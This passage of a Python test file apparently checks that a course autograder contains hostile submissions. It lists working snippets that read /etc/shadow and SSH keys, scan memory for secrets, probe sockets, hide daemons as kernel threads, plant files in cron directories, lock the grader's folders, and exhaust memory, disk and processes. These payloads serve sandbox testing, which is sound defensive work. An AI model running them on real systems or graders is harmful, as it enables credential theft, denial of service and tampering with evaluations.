                try: memory.seek(start); block = memory.read(end - start)
                except (OSError, ValueError, OverflowError): continue
                found += b" ".join(re.findall(rb"canary-(?:expected|secret|other|environment)-[0-9a-f]{16}", block))
    return found
if not os.path.exists("scanned"):  # once is enough
    open("scanned", "w").close()
    attempt(scan)
''',
    "all files that can be walked to": r'''
import time
until = time.monotonic() + (0 if os.path.exists("walked") else 2)  # once is enough
open("walked", "w").close()
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("site-packages", "proc", "sys", "python3.11", "lib-dynload", "x86_64-linux-gnu", "torch")]
    for name in files:
        if name.endswith((".ipynb", ".txt", ".json", ".csv")) or "lesson_" in name:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.path.getsize(path) < 400_000: attempt(lambda: open(path, "rb").read())
    if time.monotonic() > until: break
''',
    "devices, kernel memory and system files": r'''
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/root/.bashrc", "/root/.bash_history", "/root/.ssh/id_rsa"):
    attempt(lambda: open(path).read() and "canary-system-0123456789abcdef")
for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/tty", "/proc/1/mem", "/sys/kernel/debug/x", "/dev/fuse"):
    attempt(lambda: open(path, "rb", 0).read(16) and "canary-device-0123456789abcdef")
''',
    "the grader's folder of rooms": r'''
import glob
for path in glob.glob("/tmp/microbert-grade-*/**", recursive=True) + glob.glob("@TMP@/**", recursive=True):
    if not path.startswith(os.getcwd()) and "/01_exam" not in path and "/site" not in path: attempt(lambda: open(path, "rb").read())
attempt(lambda: open("@OUT@/grading.json").read() and "canary-seed-0123456789abcdef")
attempt(lambda: os.listdir("@OUT@") and "canary-results-0123456789abcdef")
''',
    "network of every kind": r'''
import socket, urllib.request
def tcp(address):
    with socket.create_connection(address, timeout=1) as s:
        s.sendall(b"hello"); return "canary-network-0123456789abcdef"
attempt(tcp, ("127.0.0.1", @PORT@)); attempt(tcp, ("localhost", @PORT@)); attempt(tcp, ("::1", @PORT@))
def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(1); s.connect(path); s.sendall(b"hello"); return "canary-network-0123456789abcdef"
attempt(unix, "\0hostile-@TOKEN@"); attempt(unix, "@TMP@/socket"); attempt(unix, "/run/dbus/system_bus_socket")
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: return s.sendto(b"hello", ("127.0.0.1", @PORT@)) and "canary-network-0123456789abcdef"
attempt(udp)
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@", timeout=1).read())
def packet():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) and "canary-network-0123456789abcdef"
attempt(packet)
''',
    "build targets taken from the library": r'''
import importlib, inspect
from microbert_course.models import attention
from microbert_course.training import optim
scaled_dot_product_attention = attention.scaled_dot_product_attention
cosine_schedule = optim.cosine_schedule
for module, name in ((attention, "scaled_dot_product_attention"), (optim, "cosine_schedule")):
    attempt(lambda: "### BEGIN SOLUTION" if "softmax" in inspect.getsource(getattr(module, name)) or "cos(" in inspect.getsource(getattr(module, name)) else "")
''',
}

REMAINS = {
    "daemons that fork twice and close everything": r'''
import time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            time.sleep(600)
        os._exit(0)
''',
    "a daemon that ignores signals and hides its name": r'''
import ctypes, signal, time
if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    ctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)
    if os.fork() == 0:
        os.closerange(0, 256)
        while True: time.sleep(1)
    os._exit(0)
''',
    "processes that hop from one to the next": r'''
import time
if os.fork() == 0:
    os.setsid()
    until = time.monotonic() + 60
    while time.monotonic() < until:
        if os.fork() > 0: os._exit(0)
        time.sleep(0.003)
    os._exit(0)
''',
    "another program left running": r'''
import subprocess
for options in ({"start_new_session": True}, {"start_new_session": True, "close_fds": False}):
    try: subprocess.Popen([sys.executable, "-S", "-c", "import time; time.sleep(600)"], **options)
    except OSError: pass
try: os.posix_spawn(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(600)"], {}, setsid=True)
except OSError: pass
''',
    "threads and multiprocessing that never end": r'''
import multiprocessing, threading, time
for _ in range(3): threading.Thread(target=time.sleep, args=(600,)).start()
try:
    context = multiprocessing.get_context("fork")
    context.Process(target=time.sleep, args=(600,), daemon=False).start()
except Exception: pass
''',
    "a stopped process and one that waits to be traced": r'''
import ctypes, signal
for prepare in (lambda: None, lambda: ctypes.CDLL(None).ptrace(0, 0, 0, 0)):
    if os.fork() == 0:
        os.setsid(); prepare()
        os.kill(os.getpid(), signal.SIGSTOP)
        while True: signal.pause()
''',
    "a daemon that holds the answer's pipe open": r'''
import time
if os.fork() == 0:
    os.setsid()
    time.sleep(600)
def middle(numbers): os._exit(0)
''',
    "files in every place": r'''
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/", "/home", "/root", "/etc", "/etc/cron.d", "/var/spool/cron", "/usr/lib",
              "@OUT@", "@TMP@", "@ROOT@", "@ROOT@/work", os.path.dirname("@OTHER@"),
              os.path.expanduser("~"), "..", "../..", os.path.dirname(torch.__file__), os.path.dirname(os.__file__)):
    try: open(os.path.join(place, "hostile-@TOKEN@"), "w").write("here")
    except OSError: pass
    try: os.makedirs(os.path.join(place, "hostile-@TOKEN@-folder", "a"), exist_ok=True)
    except OSError: pass
''',
    "files that resist": r'''
os.makedirs("locked/inside", exist_ok=True)
open("locked/inside/file", "w").write("x")
os.chmod("locked/inside/file", 0); os.chmod("locked/inside", 0); os.chmod("locked", 0)
name = os.getcwdb() + b"/\xff\xfe\n\x01"
os.makedirs(name, exist_ok=True)
here = os.getcwd()
for _ in range(600):
    os.makedirs("d" * 50, exist_ok=True); os.chdir("d" * 50)
os.chdir(here)
os.symlink("@OTHER@", "other.ipynb"); os.symlink("/", "root"); os.mkfifo("fifo")
''',
    "folders of the grader's locked from inside": r'''
import glob
for path in (os.getcwd(), "..", "../..", "@TMP@", "@OUT@", "@OTHER@"):
    for mode in (0, 0o777):
        try: os.chmod(path, mode)
        except OSError: pass
    try: os.rename(path, path + "-moved")
    except OSError: pass
    try: os.truncate(path, 0)
    except OSError: pass
for change in (lambda: os.remove("@OTHER@"), lambda: os.utime("@OTHER@", (1, 1)), lambda: os.chown("@OTHER@", 1, 1), lambda: os.setxattr("@OTHER@", "user.x", b"1"),
               lambda: os.fchmod(os.open(torch.__file__, os.O_RDONLY), 0o600), lambda: os.fchmod(os.open(os.__file__, os.O_RDONLY), 0o600)):
    try: change()
    except OSError: pass
import resource
for pid in {os.getppid(), 1, 2, 3} - {os.getpid()}:
    try: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))
    except (OSError, ValueError): pass
''',
    "shared memory, queues and semaphores of the kernel": r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for key in (0x4D420001, 0): libc.shmget(key, 4096, 0o1666); libc.msgget(key, 0o1666); libc.semget(key, 1, 0o1666)
try: libc.mq_open(b"/hostile-@TOKEN@", 0o102, 0o666, None)
except AttributeError: pass
libc.shm_open and libc.shm_open(b"/hostile-@TOKEN@", 0o102, 0o666)
libc.syscall(319, b"hostile", 0)
''',
}

# name: (text, statuses of its tasks that are as they should be)
FLOODS = {
    "endless cell": ("while True: pass", {"timeout"}),
    "endless cell that catches everything": (r'''
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        while True: pass
    except BaseException: pass
''', {"timeout"}),
    "endless function that catches everything": (r'''
def mix(scores, value, label):
    while True:
        try:
            while True: pass
        except BaseException: pass
''', {"timeout"}),
    "endless function": (r'''
def mix(scores, value, label):
    while True: pass
''', {"timeout"}),
    "a number too large, inside C": ("def mix(scores, value, label): return len(str(7 ** (10 ** 9)))", {"timeout", "memory"}),
    "a regular expression, inside C": (r'''
import re
def mix(scores, value, label): return bool(re.match(r'(a+)+$', 'a' * 64 + 'b'))
''', {"timeout"}),
    "a product of matrices, inside C": (r'''
def mix(scores, value, label):
    x = torch.rand(6000, 6000)
    return torch.linalg.svd(x)
''', {"timeout", "memory"}),
    "asleep with all signals blocked": (r'''
import signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
def mix(scores, value, label): time.sleep(1000)
''', {"timeout"}),
    "stopped": (r'''
import signal
def mix(scores, value, label): os.kill(os.getpid(), signal.SIGSTOP)
''', {"timeout"}),
    "waiting for itself": (r'''
import threading
def mix(scores, value, label):
    lock = threading.Lock(); lock.acquire(); lock.acquire()
''', {"timeout"}),
    "memory bit by bit": (r'''
def mix(scores, value, label):
    x = []
    while True: x.append(bytearray(9_000_000))
''', {"memory"}),
    "memory of many children": (r'''
import time
def mix(scores, value, label):
    for _ in range(20):
        if os.fork() == 0:
            x = bytearray(b'x') * 150_000_000
            time.sleep(600)
    time.sleep(600)
''', {"error", "memory"}),
    "memory at once": ("def mix(scores, value, label): return bytearray(10**12)", {"memory"}),
    "memory in tensors at once": ("def mix(scores, value, label): return torch.ones(10**12)", {"error", "memory"}),
    "forks of forks": (r'''
def mix(scores, value, label):
    while True:
        try:
            os.fork(); os.setsid()
        except OSError: pass
''', {"error", "timeout", "memory"}),
    "forks in the cells": (r'''
while True:
    try: os.fork()
    except OSError: pass
''', {"error", "timeout", "memory"}),
    "threads without end": (r'''
import threading, time
def mix(scores, value, label):
    while True:
        try: threading.Thread(target=time.sleep, args=(600,)).start()
        except RuntimeError: time.sleep(0.05)
''', {"error", "timeout", "memory"}),
    "a full disk": (r'''
def mix(scores, value, label):
    for number in range(10**6):
        with open(f'f{number}', 'wb') as file:
            for _ in range(60): file.write(bytes(10**6))
''', {"error", "timeout"}),
    "files without end": (r'''
def mix(scores, value, label):
    number = 0
    while True:
        number += 1
        os.close(os.open(f'f{number}', os.O_CREAT | os.O_WRONLY))
''', {"error", "timeout", "memory"}),
    "open files without end": (r'''
kept = []
def mix(scores, value, label):
    while True: kept.append(open('/dev/null'))
''', {"failed", "error"}),
    "output without end": (r'''
import struct
def mix(scores, value, label):
    while True:
        for d in range(3, 20):
            try: os.write(d, bytes(65536))
            except OSError: pass
''', {"error", "timeout"}),
    "an answer larger than what may be given back": ("def mix(scores, value, label): return torch.zeros(60_000_000)", {"error", "memory"}),
    "an answer too large": ("def mix(scores, value, label): return torch.zeros(90_000_000)", {"error", "memory"}),
    "lists that fill the grader's memory": (r'''
import struct
frame, d = sys._getframe(), None
while frame:
    d = frame.f_locals.get('writing', d)
    frame = frame.f_back
text = b'[' + b'[],' * 9_000_000 + b'0]'
b = b'C' + struct.pack('<I', len(text)) + text
while b: b = b[os.write(d, b[:1 << 20]):]
os._exit(0)
''', {"error"}),
    "millions of empty messages": (r'''
frame, d = sys._getframe(), None
while frame:
    d = frame.f_locals.get('writing', d)
    frame = frame.f_back
b = b'C' + bytes(30_000_000)
while b: b = b[os.write(d, b[:1 << 20]):]
os._exit(0)
''', {"error"}),
    "recursion": (r'''
sys.setrecursionlimit(10**9)
def mix(scores, value, label): return mix(scores, value, label)
''', {"error", "memory"}),
    "a source that breaks the compiler": ("compile('-' * 3_000_000 + '1', 'x', 'eval')", {"failed", "error", "memory"}),
}
